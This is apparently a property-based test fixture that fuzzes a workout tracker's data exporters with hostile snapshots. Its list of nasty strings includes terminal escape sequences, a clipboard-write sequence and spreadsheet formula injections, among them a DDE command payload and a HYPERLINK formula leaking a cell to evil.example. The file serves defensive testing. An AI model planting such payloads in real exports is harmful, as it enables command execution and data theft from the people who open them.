import fc from 'fast-check';
import {
  SEGMENT_TYPES,
  SPAN_STATUSES,
  SPAN_TYPES,
  type ExecutionSpan,
  type MetricRecord,
  type TimeSegment,
  type TrackerSnapshot,
} from 'workout-spans';

/**
 * Hostile snapshots for the exporters: the record shapes of the package, with every text and every
 * value as bad as it can be (control characters, formula starts, `{ "toString": 1 }`, null-prototype
 * objects, BigInts, cycles, throwing getters, 10 000-level nesting, huge strings), parents that dangle
 * or form loops, and numbers from NaN to 1e300. What an exporter is given from a crafted or a
 * foreign snapshot; a tracker's own are tamer.
 */

export const T0 = 1_700_000_000_000;

/** Text a terminal or a spreadsheet would obey. */
export const NASTY_TEXTS = [
  '\x1b]0;owned\x07',
  '\x1b[2J\x1b[H',
  '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\',
  '\x1b]52;c;ZWNobyBvd25lZA==\x07',
  'safe\rEVIL',
  'two\nlines',
  'tab\there',
  '\u009b31mred',
  '\u202eevil.exe',
  '\u2066isolated\u2069',
  'nul\u0000byte',
  'del\u007f',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '-5',
  '+3.25',
  '-1e3',
  '-abc_DEF',
  '"quoted", and, commas',
  'café 🏋️ 21-15-9',
  '',
  ' ',
  'constructor',
  '__proto__',
  'toString',
];

export const textArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
);

export const numberArb: fc.Arbitrary<number> = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: 0, max: 3_600_000 }).map((n) => T0 + n) },
  { weight: 1, arbitrary: fc.integer({ min: -1_000_000, max: 1_000_000 }) },
  { weight: 1, arbitrary: fc.constantFrom(NaN, Infinity, -Infinity, -0, 1e300, -1e300, Number.MAX_SAFE_INTEGER) },
  { weight: 1, arbitrary: fc.double() },
);

/** Nested arrays `depth` deep: `[[[...]]]`. */
export function nested(depth: number): unknown {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = [v];
  return v;
}

function nullPrototype(entries: Record<string, unknown>): object {
  const o = Object.create(null) as Record<string, unknown>;
  for (const [k, v] of Object.entries(entries)) o[k] = v;
  return o;
}

function cyclic(): object {
  const o: Record<string, unknown> = { name: 'loop' };
  o.self = o;
  return o;
}

function throwingGetter(): object {
  return Object.defineProperty({}, 'boom', {
    enumerable: true,
    get() {
      throw new Error('getter threw');
    },
  });
}

/** A revoked Proxy, inside an object (fast-check itself cannot look at one at the top). */
function revokedProxy(): object {
  const { proxy, revoke } = Proxy.revocable({}, {});
  revoke();
  return { proxy };
}

/** Values no JSON document holds, made afresh for each run (a factory per kind). */
const exoticArb: fc.Arbitrary<unknown> = fc
  .constantFrom<() => unknown>(
    () => ({ toString: 1 }),
    () => ({ toString: 1, valueOf: 'x', toJSON: 3 }),
    () => nullPrototype({ a: 1, b: [2, 3] }),
    () => nullPrototype({}),
    () => JSON.parse('{"__proto__": {"x": 1}}'),
    () => nested(10_000),
    () => 'x'.repeat(20_000),
    () => [, 1], // eslint-disable-line no-sparse-arrays
    () => 10n ** 30n,
    () => Symbol('s'),
    () => () => 1,
    () => undefined,
    cyclic,
    throwingGetter,
    revokedProxy,
    () => new Date(0),
    () => new Map([[1, 2]]),
  )
  .map((make) => make());

/** Any value a metric may hold, and worse. */
export const valueArb: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: textArb },
  { weight: 1, arbitrary: numberArb },
  { weight: 3, arbitrary: exoticArb },
  {
    weight: 1,
    arbitrary: fc.anything({
      withNullPrototype: true,
      withBigInt: true,
      withMap: true,
      withSet: true,
      withSparseArray: true,
      withBoxedValues: true,
      maxDepth: 2,
    }),
  },
);

const metricValueArb = fc.record({ value: valueArb, unit: textArb, recorded: numberArb });

const customArb = fc.tuple(fc.array(fc.tuple(textArb, metricValueArb), { maxLength: 4 }), fc.boolean()).map(([entries, bare]) => {
  const custom = (bare ? Object.create(null) : {}) as Record<string, unknown>;
  for (const [k, v] of entries) Object.defineProperty(custom, k, { value: v, enumerable: true, writable: true, configurable: true });
  return custom;
});

const metricsArb = fc.record(
  {
    exerciseId: textArb,
    reps: fc.record({ value: fc.oneof(numberArb, valueArb), unit: textArb, recorded: numberArb }),
    weight: fc.record({ value: numberArb, unit: textArb, recorded: numberArb }),
    distance: fc.record({ value: numberArb, unit: textArb, recorded: numberArb }),
    targetReps: numberArb,
    currentRound: fc.oneof(numberArb, valueArb),
    totalRounds: fc.oneof(numberArb, valueArb),
    repScheme: fc.array(fc.oneof(numberArb, valueArb), { maxLength: 200 }),
    custom: customArb,
  },
  { requiredKeys: ['custom'] },
);

const segmentArb = fc.record(
  {
    id: textArb,
    startTime: numberArb,
    endTime: numberArb,
    type: fc.oneof(fc.constantFrom(...SEGMENT_TYPES), textArb),
    label: textArb,
    index: fc.oneof(fc.nat(20), numberArb),
    plannedMs: numberArb,
    metrics: fc.constant({}),
  },
  { requiredKeys: ['id', 'startTime', 'type', 'label', 'metrics'] },
);

const timeSpanArb = fc.record(
  { id: textArb, type: fc.constantFrom('work', 'rest', 'transition'), start: numberArb, stop: numberArb, blockId: textArb },
  { requiredKeys: ['id', 'type', 'start', 'blockId'] },
);

const spanArb = fc.record(
  {
    id: textArb,
    blockId: textArb,
    type: fc.oneof(fc.constantFrom(...SPAN_TYPES), textArb),
    label: fc.oneof({ weight: 40, arbitrary: textArb }, { weight: 1, arbitrary: fc.constant('L'.repeat(100_000)) }),
    status: fc.oneof(fc.constantFrom(...SPAN_STATUSES), textArb),
    startTime: numberArb,
    endTime: numberArb,
    paused: fc.boolean(),
    timer: fc.record({ direction: fc.constantFrom('up', 'down'), durationMs: numberArb }, { requiredKeys: ['direction'] }),
    error: textArb,
    endReason: textArb,
    metrics: metricsArb,
    segments: fc.array(segmentArb, { maxLength: 3 }),
    timeSpans: fc.array(timeSpanArb, { maxLength: 2 }),
  },
  { requiredKeys: ['id', 'blockId', 'type', 'label', 'status', 'startTime', 'paused', 'metrics', 'segments', 'timeSpans'] },
);

/** How a span is attached: a root, the child of an earlier span, a dangling parent, or a later span (loops). */
const parentArb = fc.oneof(
  { weight: 2, arbitrary: fc.constant({ kind: 'root' as const }) },
  { weight: 5, arbitrary: fc.nat().map((n) => ({ kind: 'earlier' as const, n })) },
  { weight: 1, arbitrary: textArb.map((id) => ({ kind: 'dangling' as const, id })) },
  { weight: 1, arbitrary: fc.nat().map((n) => ({ kind: 'any' as const, n })) },
);

const recordArb = fc.record(
  {
    id: textArb,
    key: fc.oneof(fc.constantFrom('reps', 'weight', 'repScheme', 'heartRate'), textArb),
    value: valueArb,
    unit: textArb,
    source: textArb,
    recordedAt: numberArb,
    blockId: textArb,
    spanId: textArb,
    spanIds: fc.array(textArb, { maxLength: 3 }),
    segmentIds: fc.array(textArb, { maxLength: 3 }),
    timeSpanId: fc.oneof(textArb, fc.constant(null)),
    phase: fc.constantFrom('work', 'rest', 'transition'),
    context: fc.record(
      {
        spanType: fc.constantFrom(...SPAN_TYPES),
        elapsedMs: numberArb,
        totalElapsedMs: numberArb,
        roundNumber: numberArb,
        minuteIndex: numberArb,
      },
      { requiredKeys: ['spanType', 'elapsedMs', 'totalElapsedMs'] },
    ),
  },
  {
    requiredKeys: [
      'id',
      'key',
      'value',
      'unit',
      'recordedAt',
      'blockId',
      'spanId',
      'spanIds',
      'segmentIds',
      'timeSpanId',
      'phase',
      'context',
    ],
  },
);

/** A snapshot of hostile spans and records; segment parents and record span ids point at real spans where they can. */
export const snapshotArb: fc.Arbitrary<TrackerSnapshot> = fc
  .record({
    spans: fc.array(fc.tuple(spanArb, parentArb), { maxLength: 12 }),
    records: fc.array(fc.tuple(recordArb, fc.nat(), fc.nat()), { maxLength: 8 }),
    savedAt: fc.option(numberArb, { nil: undefined }),
  })
  .map(({ spans: drafts, records: recordDrafts, savedAt }) => {
    const spans: ExecutionSpan[] = drafts.map(([draft], i) => ({ ...(draft as unknown as ExecutionSpan), id: `${draft.id}#${i}` }));
    drafts.forEach(([, parent], i) => {
      const span = spans[i] as { parentSpanId: string | null };
      if (parent.kind === 'root' || (parent.kind === 'earlier' && i === 0)) span.parentSpanId = null;
      else if (parent.kind === 'earlier') span.parentSpanId = spans[parent.n % i]!.id;
      else if (parent.kind === 'dangling') span.parentSpanId = parent.id;
      else span.parentSpanId = spans[parent.n % spans.length]!.id;
      for (const seg of spans[i]!.segments as TimeSegment[]) seg.parentSpanId = spans[i]!.id;
    });
    const metrics = recordDrafts.map(([draft, s, g]) => {
      const record = { ...(draft as unknown as MetricRecord) };
      const span = spans.length === 0 ? undefined : spans[s % spans.length]!;
      if (span !== undefined) {
        record.spanId = span.id;
        const seg = span.segments[g % Math.max(1, span.segments.length)];
        if (seg !== undefined) record.segmentIds = [...record.segmentIds, seg.id];
      }
      return record;
    });
    const snapshot = {
      version: 1,
      spans,
      metrics,
      active: spans.filter((s) => s.status === 'active'),
      completed: spans.filter((s) => s.status !== 'active'),
      samples: { roots: () => [], keys: () => [], get: () => undefined },
    } as TrackerSnapshot;
    if (savedAt !== undefined) snapshot.savedAt = savedAt;
    return snapshot;
  });

/** `count` spans, each the child of the one before: a tree as deep as it is long. */
export function deepSnapshot(count: number): TrackerSnapshot {
  const spans: ExecutionSpan[] = [];
  for (let i = 0; i < count; i++) {
    spans.push({
      id: `s${i}`,
      blockId: `b${i}`,
      parentSpanId: i === 0 ? null : `s${i - 1}`,
      type: 'group',
      label: `Level ${i}`,
      status: 'active',
      startTime: T0 + i,
      paused: false,
      metrics: { custom: {} },
      segments: [],
      timeSpans: [{ id: `s${i}.t0`, type: 'work', start: T0 + i, blockId: `b${i}`, parentSpanId: `s${i}` }],
    });
  }
  return {
    version: 1,
    spans,
    metrics: [],
    active: spans,
    completed: [],
    samples: { roots: () => [], keys: () => [], get: () => undefined },
  };
}
